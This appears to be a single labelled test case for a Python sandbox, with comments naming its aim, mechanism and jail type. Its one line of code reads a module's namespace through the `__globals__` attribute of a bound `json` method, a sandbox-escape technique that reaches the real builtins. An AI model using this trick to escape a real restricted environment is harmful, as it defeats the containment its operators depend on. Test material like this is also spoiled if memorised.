# aim: read the namespace behind a bound method of a library object
# mechanism: a bound method passes attribute reads on to its function
# language: check
# reason: a module's namespace holds the real builtins and every module it imported
# jail: process
# plain: loot

import json

loot(json.JSONEncoder().encode.__globals__)
